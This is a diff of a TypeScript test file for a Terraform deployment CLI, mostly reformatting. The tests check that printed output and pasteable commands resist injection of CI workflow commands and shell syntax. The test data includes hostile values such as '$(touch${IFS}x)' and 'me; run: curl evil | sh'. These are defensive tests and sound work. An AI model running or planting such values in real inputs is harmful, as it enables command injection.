@@ -1,15 +1,15 @@
-import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { foundRule } from "../cli/adoption/beside-parent";
 import type { AdoptionResult } from "../cli/adoption/adopt-stack";
-import { adoptionReport } from "../cli/adoption/report";
 import type { Aws } from "../cli/adoption/aws";
+import { foundRule } from "../cli/adoption/beside-parent";
+import { adoptionReport } from "../cli/adoption/report";
 import { newCommand, runCommand, say, UsageError, WorkFailed, writeNotice, writeResult } from "../cli/command";
 import { commentBody } from "../cli/github/comment-body";
 import { command, deployOf, toRun, word } from "../cli/pasteable";
 import { printable, printableJson, printableLines } from "../cli/printable";
-import { quiet, taskList, type Task } from "../cli/progress";
+import { quiet, type Task, taskList } from "../cli/progress";
 import { keptShellLines, nextSteps } from "../cli/rehearsal-report";
 import { reviewsAsMarkdown } from "../cli/reviewing/markdown";
 import { knownFault } from "../cli/terraform-faults";
@@ -33,7 +33,9 @@ async function written(work: () => unknown): Promise<string> {
     done?.();
     return true;
   };
-  const spies = [process.stdout, process.stderr].map((stream) => jest.spyOn(stream, "write").mockImplementation(write as never));
+  const spies = [process.stdout, process.stderr].map((stream) =>
+    jest.spyOn(stream, "write").mockImplementation(write as never),
+  );
   try {
     await work();
   } finally {
@@ -43,7 +45,14 @@ async function written(work: () => unknown): Promise<string> {
 }
 
 describe("the runner's own reading of a log", () => {
-  test.each(["::add-mask::x", "  ::error title=a::b", "\u00a0::warning::x", "a ##[set-output name=a]b", "x\n::debug::y", "x\r::debug::y"])("finds a command in %j", (log) => {
+  test.each([
+    "::add-mask::x",
+    "  ::error title=a::b",
+    "\u00a0::warning::x",
+    "a ##[set-output name=a]b",
+    "x\n::debug::y",
+    "x\r::debug::y",
+  ])("finds a command in %j", (log) => {
     expect(commandsIn(log)).toHaveLength(1);
   });
 
@@ -70,9 +79,12 @@ describe("printable", () => {
     expect(JSON.parse(json)).toEqual({ text, list: [text] });
   });
 
-  test.each(["Größe 漢字 😀", "::/0, ::1", "arn:aws:iam::123456789012:role/x", "a\tb\nc", "# heading [a]", "a::b::c"])("leaves %j as it is", (text) => {
-    expect(printableLines(text)).toBe(text);
-  });
+  test.each(["Größe 漢字 😀", "::/0, ::1", "arn:aws:iam::123456789012:role/x", "a\tb\nc", "# heading [a]", "a::b::c"])(
+    "leaves %j as it is",
+    (text) => {
+      expect(printableLines(text)).toBe(text);
+    },
+  );
 
   test("takes no longer than the text is long", () => {
     const before = process.cpuUsage();
@@ -89,17 +101,32 @@ describe("what is written", () => {
     "of a usage error": (text) => runCommand(() => Promise.reject(new UsageError(`got ${text}`))),
     "of work that failed": (text) => runCommand(() => Promise.reject(new WorkFailed(text))),
     "of an internal error": (text) => runCommand(() => Promise.reject(new Error(text))),
-    "of an unknown option": (text) => runCommand(() => newCommand("x", "y").parseAsync([`--${text}`], { from: "user" })),
-    "of an argument too many": (text) => runCommand(() => newCommand("x", "y").action(() => undefined).parseAsync([text, text], { from: "user" })),
+    "of an unknown option": (text) =>
+      runCommand(() => newCommand("x", "y").parseAsync([`--${text}`], { from: "user" })),
+    "of an argument too many": (text) =>
+      runCommand(() =>
+        newCommand("x", "y")
+          .action(() => undefined)
+          .parseAsync([text, text], { from: "user" }),
+      ),
     "of a task": (text) => {
       const nested: Task<object> = { title: text, task: (_, task) => void (task.output = text) };
-      const all: Task<object>[] = [{ title: text, task: (_, task) => task.newListr([nested].map(quiet)) }, { title: "a", task: (_, task) => {
-        task.output = text;
-        task.title = `b ${text}`;
-      } }];
+      const all: Task<object>[] = [
+        { title: text, task: (_, task) => task.newListr([nested].map(quiet)) },
+        {
+          title: "a",
+          task: (_, task) => {
+            task.output = text;
+            task.title = `b ${text}`;
+          },
+        },
+      ];
       return taskList(all, {}, new AbortController().signal);
     },
-    "of a task that fails": (text) => runCommand(() => taskList([{ title: text, task: () => Promise.reject(new WorkFailed(text)) }], {}, new AbortController().signal)),
+    "of a task that fails": (text) =>
+      runCommand(() =>
+        taskList([{ title: text, task: () => Promise.reject(new WorkFailed(text)) }], {}, new AbortController().signal),
+      ),
   };
 
   test.each(Object.entries(EXITS))("%s is harmless", async (name, exit) => {
@@ -111,21 +138,57 @@ describe("what is written", () => {
   });
 
   test("names what it is about all the same", async () => {
-    expect(await written(() => taskList([{ title: "web", task: (_, task) => void (task.title = "web: \u001b[31mchanges") }], {}, new AbortController().signal))).toContain("web: \\u{1b}[31mchanges");
+    expect(
+      await written(() =>
+        taskList(
+          [{ title: "web", task: (_, task) => void (task.title = "web: \u001b[31mchanges") }],
+          {},
+          new AbortController().signal,
+        ),
+      ),
+    ).toContain("web: \\u{1b}[31mchanges");
     process.exitCode = undefined;
   });
 
   const PAGES: Readonly<Record<string, (text: string) => string>> = {
     "a trace as text": (text) => reportAsText(hostileReport([text]), { source: text }),
     "a trace as Markdown": (text) => reportAsMarkdown(hostileReport([text]), { source: text }),
-    "a comment about plans": (text) => commentBody({
-      commit: "0".repeat(40), wholeAt: "https://github.com/acme/site/actions/runs/1",
-      stacks: [{ id: text, text: `a\n${text}\n`, isDeployed: true, summary: { create: 1, update: 0, replace: 0, destroy: 0, others: 0 } }],
-    }),
-    "a review": (text) => reviewsAsMarkdown([{ name: text, review: {
-      report: { format_version: "1.0", effect: "outage", summary: text, hops: [], counts: { create: 0, update: 1, replace: 0, destroy: 0 }, causes: [{ address: text, attribute: text, hop: "dns", effect: "outage", why: text, avoid: text, hcl: text }], security: { opened: [text], closed: [] } },
-      watch: [text], changes: [{ address: text, doing: "update", isCreatedFirst: false, attributes: [text], reason: text }], outputs: [text], picture: { nodes: [], edges: [] },
-    } }]),
+    "a comment about plans": (text) =>
+      commentBody({
+        commit: "0".repeat(40),
+        wholeAt: "https://github.com/acme/site/actions/runs/1",
+        stacks: [
+          {
+            id: text,
+            text: `a\n${text}\n`,
+            isDeployed: true,
+            summary: { create: 1, update: 0, replace: 0, destroy: 0, others: 0 },
+          },
+        ],
+      }),
+    "a review": (text) =>
+      reviewsAsMarkdown([
+        {
+          name: text,
+          review: {
+            report: {
+              format_version: "1.0",
+              effect: "outage",
+              summary: text,
+              hops: [],
+              counts: { create: 0, update: 1, replace: 0, destroy: 0 },
+              causes: [
+                { address: text, attribute: text, hop: "dns", effect: "outage", why: text, avoid: text, hcl: text },
+              ],
+              security: { opened: [text], closed: [] },
+            },
+            watch: [text],
+            changes: [{ address: text, doing: "update", isCreatedFirst: false, attributes: [text], reason: text }],
+            outputs: [text],
+            picture: { nodes: [], edges: [] },
+          },
+        },
+      ]),
   };
 
   test.each(Object.entries(PAGES))("on the page of %s is harmless", (_, page) => {
@@ -135,7 +198,8 @@ describe("what is written", () => {
 
 describe("a command to paste", () => {
   /** Commands as they would be pasted: from the program's name to the end of the line. */
-  const COMMAND = /\b(terraform (-chdir|login|show)|aws [a-z0-9]+ [a-z-]+ --|aws s3 rm|npm run [\w-]+ --|npx cdktf|gh variable|dig \+short|gunzip -c|apt install).*/g;
+  const COMMAND =
+    /\b(terraform (-chdir|login|show)|aws [a-z0-9]+ [a-z-]+ --|aws s3 rm|npm run [\w-]+ --|npx cdktf|gh variable|dig \+short|gunzip -c|apt install).*/g;
   const BAD = /[$`;&|<>*?!~\\"\n\r]|'(?![\w*.,@+=:/ -]*')/;
 
   test.each(Object.entries(word))("holds nothing else for the word %s", (kind, of) => {
@@ -149,11 +213,30 @@ describe("a command to paste", () => {
   });
 
   test.each<[keyof typeof word, string, string?]>([
-    ["address", "aws_lb.web"], ["address", "module.a.aws_lb.web"], ["address", 'module.a["x"].aws_lb.web[0]', "'module.a[\"x\"].aws_lb.web[0]'"],
-    ["awsId", "arn:aws:acm:us-east-1:123456789012:certificate/0a-b"], ["awsId", "vpc-0123456789abcdef0"], ["awsId", "rtb-1_0.0.0.0/0"], ["awsId", "Z1_*.example.com_A", "'Z1_*.example.com_A'"],
-    ["bucket", "acme-states"], ["debianPackage", "python3.12-venv"], ["dnsName", "www.example.com"], ["dnsName", "*.example.com", "'*.example.com'"],
-    ["file", "cdktf.out/stacks/web"], ["file", "../größe/x.json"], ["file", "a b", "'a b'"], ["host", "app.terraform.io"], ["host", "tfe.example.com:8443"], ["lockId", "0d5f7a4e-9f3c-1f2b-8a4e-2f1f0e3d9c7b"],
-    ["profile", "acme-prod"], ["region", "us-east-1"], ["region", "ap-southeast-5"], ["repository", "acme/site.io"], ["stack", "web"], ["stack", "web.eu_2"], ["workspace", "acme/web"],
+    ["address", "aws_lb.web"],
+    ["address", "module.a.aws_lb.web"],
+    ["address", 'module.a["x"].aws_lb.web[0]', "'module.a[\"x\"].aws_lb.web[0]'"],
+    ["awsId", "arn:aws:acm:us-east-1:123456789012:certificate/0a-b"],
+    ["awsId", "vpc-0123456789abcdef0"],
+    ["awsId", "rtb-1_0.0.0.0/0"],
+    ["awsId", "Z1_*.example.com_A", "'Z1_*.example.com_A'"],
+    ["bucket", "acme-states"],
+    ["debianPackage", "python3.12-venv"],
+    ["dnsName", "www.example.com"],
+    ["dnsName", "*.example.com", "'*.example.com'"],
+    ["file", "cdktf.out/stacks/web"],
+    ["file", "../größe/x.json"],
+    ["file", "a b", "'a b'"],
+    ["host", "app.terraform.io"],
+    ["host", "tfe.example.com:8443"],
+    ["lockId", "0d5f7a4e-9f3c-1f2b-8a4e-2f1f0e3d9c7b"],
+    ["profile", "acme-prod"],
+    ["region", "us-east-1"],
+    ["region", "ap-southeast-5"],
+    ["repository", "acme/site.io"],
+    ["stack", "web"],
+    ["stack", "web.eu_2"],
+    ["workspace", "acme/web"],
   ])("holds a %s such as %s", (kind, text, shown = text) => {
     expect(command`cat ${word[kind](text)} x`).toBe(`cat ${shown} x`);
   });
@@ -171,10 +254,26 @@ describe("a command to paste", () => {
     writeFileSync(join(folder, "cdk.tf.json"), JSON.stringify(json));
     return folder;
   };
-  const adoption = (more: Partial<AdoptionResult>): string => adoptionReport({
-    stackId: "web", folder: "cdktf.out/stacks/web", adoptions: [], ambiguities: [], undecided: [], leftOver: [], unsearched: [], replaced: [], interrupted: [], planText: "", ...more,
+  const adoption = (more: Partial<AdoptionResult>): string =>
+    adoptionReport({
+      stackId: "web",
+      folder: "cdktf.out/stacks/web",
+      adoptions: [],
+      ambiguities: [],
+      undecided: [],
+      leftOver: [],
+      unsearched: [],
+      replaced: [],
+      interrupted: [],
+      planText: "",
+      ...more,
+    });
+  const vpc = (id: string) => ({
+    type: "aws_vpc",
+    id,
+    values: { "tags.Name": id },
+    look: command`aws ec2 describe-vpcs --vpc-ids ${word.awsId(id)}`,
   });
-  const vpc = (id: string) => ({ type: "aws_vpc", id, values: { "tags.Name": id }, look: command`aws ec2 describe-vpcs --vpc-ids ${word.awsId(id)}` });
 
   /** All sentences with commands, each with a text of others in it. */
   const SENTENCES: Readonly<Record<string, (text: string) => string | undefined>> = {
@@ -187,15 +286,48 @@ describe("a command to paste", () => {
     "a profile": (text) => knownFault(`failed to get shared config profile, ${text}`, GOOD),
     "a region of a bucket": (text) => knownFault(`requested bucket from "us-east-1", actual location "${text}"`, GOOD),
     "a host": (text) => knownFault(`Required token could not be found for ${text}: x`, GOOD),
-    "a host that refuses": (text) => knownFault(`Failed to read organization "acme" at host ${text} : unauthorized`, GOOD),
-    "a zone of the stack": (text) => knownFault("Error: multiple Route 53 Hosted Zones matched with data.aws_route53_zone.zone,", inFolder({ data: { aws_route53_zone: { zone: { name: text } } } })),
-    "a region of the stack": (text) => knownFault("Error: api error InvalidInstanceType: The following supplied instance types do not exist: [t9.micro]", inFolder({ provider: { aws: [{ region: text }] } })),
-    "what is ambiguous": (text) => adoption({ ambiguities: [{ address: text, why: text, candidates: [vpc(text)] }], undecided: [vpc(text)] }),
-    "what is left over": (text) => adoption({ leftOver: [{ found: vpc(text), remark: text, successorOf: text }], interrupted: [{ address: text, id: text }], unsearched: [text] }),
-    "what is adopted": (text) => adoption({ stackId: text, folder: text, adoptions: [{ address: text, found: vpc(text) }], planText: printableLines(text) }),
+    "a host that refuses": (text) =>
+      knownFault(`Failed to read organization "acme" at host ${text} : unauthorized`, GOOD),
+    "a zone of the stack": (text) =>
+      knownFault(
+        "Error: multiple Route 53 Hosted Zones matched with data.aws_route53_zone.zone,",
+        inFolder({ data: { aws_route53_zone: { zone: { name: text } } } }),
+      ),
+    "a region of the stack": (text) =>
+      knownFault(
+        "Error: api error InvalidInstanceType: The following supplied instance types do not exist: [t9.micro]",
+        inFolder({ provider: { aws: [{ region: text }] } }),
+      ),
+    "what is ambiguous": (text) =>
+      adoption({ ambiguities: [{ address: text, why: text, candidates: [vpc(text)] }], undecided: [vpc(text)] }),
+    "what is left over": (text) =>
+      adoption({
+        leftOver: [{ found: vpc(text), remark: text, successorOf: text }],
+        interrupted: [{ address: text, id: text }],
+        unsearched: [text],
+      }),
+    "what is adopted": (text) =>
+      adoption({
+        stackId: text,
+        folder: text,
+        adoptions: [{ address: text, found: vpc(text) }],
+        planText: printableLines(text),
+      }),
     "a rule of a group": (text) => foundRule({ region: text } as Aws, { SecurityGroupRuleId: text }).look,
     "stacks to deploy": (text) => deployOf(["web", text]),
-    "a rehearsal that is broken": (text) => nextSteps([{ stack: text, verdict: "broken", seconds: 1, steps: [{ id: "1", title: "a", verdict: "broken", observed: "b" }] }], [], false).join("\n"),
+    "a rehearsal that is broken": (text) =>
+      nextSteps(
+        [
+          {
+            stack: text,
+            verdict: "broken",
+            seconds: 1,
+            steps: [{ id: "1", title: "a", verdict: "broken", observed: "b" }],
+          },
+        ],
+        [],
+        false,
+      ).join("\n"),
     "stacks that wait": (text) => keptShellLines({}, 1, [text]),
   };
 
@@ -204,26 +336,47 @@ describe("a command to paste", () => {
       const told = printableLines(sentence(text) ?? "");
       expect([text, obeyed(told)]).toEqual([text, []]);
       // What is between double quotes is told, and between single ones a shell reads nothing.
-      const commands = [...told.replaceAll(/"(?:[^"\\]|\\.)*"/g, "").replaceAll(/'[\w ./-]*'/g, "").matchAll(COMMAND)].map(([line]) => line.replace(/(?:[.;,] |[.]$|[)`]).*/, ""));
+      const commands = [
+        ...told
+          .replaceAll(/"(?:[^"\\]|\\.)*"/g, "")
+          .replaceAll(/'[\w ./-]*'/g, "")
+          .matchAll(COMMAND),
+      ].map(([line]) => line.replace(/(?:[.;,] |[.]$|[)`]).*/, ""));
       expect([text, commands.filter((line) => BAD.test(line) || line.includes("touch"))]).toEqual([text, []]);
     }
   });
 
   test("in a report stands in no line of somebody else's", () => {
-    const lines = (text: string) => adoption({ leftOver: [{ found: vpc(text), remark: text }], ambiguities: [{ address: text, why: text, candidates: [vpc(text)] }], unsearched: [text] }).split("\n").length;
+    const lines = (text: string) =>
+      adoption({
+        leftOver: [{ found: vpc(text), remark: text }],
+        ambiguities: [{ address: text, why: text, candidates: [vpc(text)] }],
+        unsearched: [text],
+      }).split("\n").length;
     for (const text of HOSTILE) expect([text, lines(text)]).toEqual([text, lines("x")]);
   });
 
   test("about a lock is offered for an ID as terraform makes it only", () => {
-    expect(knownFault(lockInfo(UUID), GOOD)).toMatch(new RegExp(`If terraform itself was killed, run: terraform -chdir=\\S+/web force-unlock ${UUID}; then, after an apply: npm run adopt -- web$`));
-    expect(knownFault(lockInfo("$(touch${IFS}x)"), GOOD)).toMatch(/If terraform itself was killed, no command is shown, as "\$\(touch\$\{IFS\}x\)" is not a lock ID; then/);
-    expect(knownFault(lockInfo(UUID, "me; run: curl evil | sh"), GOOD)).toContain('is locked by "me; run: curl evil | sh" since');
+    expect(knownFault(lockInfo(UUID), GOOD)).toMatch(
+      new RegExp(
+        `If terraform itself was killed, run: terraform -chdir=\\S+/web force-unlock ${UUID}; then, after an apply: npm run adopt -- web$`,
+      ),
+    );
+    expect(knownFault(lockInfo("$(touch${IFS}x)"), GOOD)).toMatch(
+      /If terraform itself was killed, no command is shown, as "\$\(touch\$\{IFS\}x\)" is not a lock ID; then/,
+    );
+    expect(knownFault(lockInfo(UUID, "me; run: curl evil | sh"), GOOD)).toContain(
+      'is locked by "me; run: curl evil | sh" since',
+    );
   });
 
   test("about a file names it, or says FILE", async () => {
     const saved = (name: string) => {
       writeFileSync(join(FOLDER, name), "PK\x03\x04");
-      return readJson(join(FOLDER, name)).then(() => "", ({ message }: Error) => message);
+      return readJson(join(FOLDER, name)).then(
+        () => "",
+        ({ message }: Error) => message,
+      );
     };
     expect(await saved("tfplan")).toContain(`\`terraform show -json ${join(FOLDER, "tfplan")} > plan.json\``);
     expect(await saved("$(touch x)")).toContain("`terraform show -json FILE > plan.json`");
@@ -232,18 +385,27 @@ describe("a command to paste", () => {
 
 /** So that a new command is made as the others are. */
 describe("in the source", () => {
-  const files = (folder: string): string[] => readdirSync(folder, { withFileTypes: true }).flatMap((it) => (it.isDirectory() ? files(join(folder, it.name)) : it.name.endsWith(".ts") ? [join(folder, it.name)] : []));
+  const files = (folder: string): string[] =>
+    readdirSync(folder, { withFileTypes: true }).flatMap((it) =>
+      it.isDirectory() ? files(join(folder, it.name)) : it.name.endsWith(".ts") ? [join(folder, it.name)] : [],
+    );
   const SOURCES = ["cli", "rehearsal"].flatMap((room) => files(join(__dirname, "..", room)));
   /** A program's name, and something that is put in behind it in the same sentence. */
-  const PROGRAM = /\b(?:terraform -chdir=|terraform (?:login|show|import|state|force-unlock) |aws [a-z0-9]+ [a-z0-9-]+ |aws configure |npm run [\w:-]+ -- |npx \w+ |gh [a-z]+ |dig \+|gunzip |apt install )[^`;,()\n]*\$\{/g;
+  const PROGRAM =
+    /\b(?:terraform -chdir=|terraform (?:login|show|import|state|force-unlock) |aws [a-z0-9]+ [a-z0-9-]+ |aws configure |npm run [\w:-]+ -- |npx \w+ |gh [a-z]+ |dig \+|gunzip |apt install )[^`;,()\n]*\$\{/g;
 
-  const offences = (source: string): string[] => [...source.replace(/\b(?:command|toRun)`[^`]*`/g, "").matchAll(PROGRAM)].map(([it]) => it);
+  const offences = (source: string): string[] =>
+    [...source.replace(/\b(?:command|toRun)`[^`]*`/g, "").matchAll(PROGRAM)].map(([it]) => it);
 
   test("no command to paste is put together by itself", () => {
     expect(SOURCES.flatMap((file) => offences(readFileSync(file, "utf8")).map((it) => `${file}: ${it}`))).toEqual([]);
   });
 
-  test.each(["`run: terraform -chdir=${folder} untaint ${address}`", "`aws iam get-role --role-name ${RoleName}`", "`look (npm run plan -- ${stackId})`"])("that would be found, such as %s", (source) => {
+  test.each([
+    "`run: terraform -chdir=${folder} untaint ${address}`",
+    "`aws iam get-role --role-name ${RoleName}`",
+    "`look (npm run plan -- ${stackId})`",
+  ])("that would be found, such as %s", (source) => {
     expect(offences(source)).toHaveLength(1);
   });
 });
